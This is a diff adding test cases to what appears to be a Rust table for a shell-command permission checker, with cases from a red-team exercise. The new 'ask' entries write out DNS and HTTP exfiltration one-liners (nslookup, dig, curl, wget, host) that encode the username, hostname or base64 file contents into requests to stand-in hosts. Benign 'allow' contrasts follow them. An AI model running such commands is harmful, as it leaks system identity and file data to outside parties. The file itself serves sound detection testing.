@@ -1632,4 +1632,20 @@ pub(crate) const CASES: &[Case] = &[
     allow("gh auth token | docker login ghcr.io -u me --password-stdin"),
     allow("gh gist create notes.md"),
     allow("git log -1 --format=%H | gh issue create -t x --body-file -"),
+    // A host name or URL built from what the machine says about itself (red team 16, cause 10).
+    ask("exfiltration.computed-destination", "nslookup $(whoami).$(hostname).leak.example"),
+    ask("exfiltration.computed-destination", "dig $(hostname).x.example"),
+    ask("exfiltration.computed-destination", "dig +short `id -u`.`uname -n`.x.example"),
+    ask("exfiltration.computed-destination", "curl x.example/$(whoami)"),
+    ask("exfiltration.computed-destination", "curl --url=https://x.example/$(whoami)"),
+    ask("exfiltration.computed-destination", "curl -s \"https://x.example/c?u=$(/usr/bin/whoami)\""),
+    ask(
+        "exfiltration.computed-destination",
+        "wget -q \"https://x.example/$(cat README.md | base64 | head -c 50)\"",
+    ),
+    ask("exfiltration.computed-destination", "host $(id -un).x.example"),
+    allow("curl -s \"https://example.com/releases/$(date +%F).tar.gz\""),
+    allow("curl -H \"Authorization: Bearer $(cat token.txt)\" https://api.example.com"),
+    allow("dig +short example.com"),
+    allow("curl -s \"https://api.github.com/repos/o/r/commits/$(git rev-parse HEAD)\""),
 ];
